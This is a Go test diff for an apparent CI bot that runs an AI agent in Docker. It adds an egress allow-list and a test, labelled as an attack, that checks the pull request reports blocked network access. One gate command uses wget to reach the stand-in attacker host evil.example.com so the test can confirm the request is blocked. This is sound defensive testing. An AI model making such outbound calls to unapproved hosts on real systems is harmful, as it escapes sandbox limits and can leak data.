@@ -29,6 +29,7 @@ import (
 	"github.com/moby/moby/client"
 
 	"github.com/org/ralph-action/internal/config"
+	"github.com/org/ralph-action/internal/egress"
 	"github.com/org/ralph-action/internal/loop"
 	"github.com/org/ralph-action/internal/run"
 	"github.com/org/ralph-action/internal/store"
@@ -251,6 +252,7 @@ func (st *stage) serveProgram(exe string, env ...string) *process {
 		"model":    map[string]any{"base_url": c.Model.BaseURL},
 		"sandbox":  map[string]any{"kind": c.Sandbox.Kind, "image": c.Sandbox.Image, "cpus": c.Sandbox.CPUs},
 		"gates":    gates,
+		"egress":   map[string]any{"allow": c.Egress},
 		"log":      map[string]any{"level": "warn"},
 	})
 	if err != nil {
@@ -383,6 +385,36 @@ func TestDockerLabelBecomesPullRequest(t *testing.T) {
 	if err != nil || len(left) != 0 {
 		t.Errorf("the run left %v behind, %v", left, err)
 	}
+}
+
+// Attack G2: what checks, which run the agent's code, ask of the network beside
+// what is allowed is blocked, and the pull request names it with what became of it.
+func TestG2BlockedHostsAreOnThePullRequest(t *testing.T) {
+	t.Parallel()
+	st := newDockerStage(t, setting{
+		script: "default: [{files: {one.txt: \"1\\n\"}, say: done}]\n",
+		change: func(c *config.Server) { c.Egress = egress.List{"*.allowed.example"} },
+		gates: []config.Gate{
+			{Name: "asks", Run: `if wget -q -O /dev/null http://evil.example.com/x; then exit 1; fi; test -n "$HTTPS_PROXY"`, When: "task", Timeout: time.Minute},
+		},
+	})
+	exe := builtBot(t)
+	e := newEngine(t, st.dir, nil)
+	p := st.serveProgram(exe)
+	state := st.ended(st.openStore(), st.label("Say hello", "- [ ] Write one\n"))
+	if state.End != run.EndAllTasksComplete {
+		t.Fatalf("ended %s: %s\n%+v", state.End, state.EndDetail, state.History)
+	}
+	p.stop(t)
+	want := []run.HostUse{{Host: "evil.example.com", Blocked: "not in egress.allow", Count: 1}}
+	if diff := gocmp.Diff(want, state.History[0].Hosts); diff != "" {
+		t.Error(diff)
+	}
+	if body := st.onlyPR().Body; !strings.Contains(body, "0 hosts reached, 1 blocked") || !strings.Contains(body, "⛔ blocked: `evil.example.com` 1× (not in egress.allow)") {
+		t.Errorf("the description lacks what was blocked:\n%s", body)
+	}
+	e.expect(st, 3) // an agent, a check, and the reviewer
+	e.nothingLeft(exe)
 }
 
 // TestDockerKilledServerAdoptsItsAgent kills the server while an agent is in the
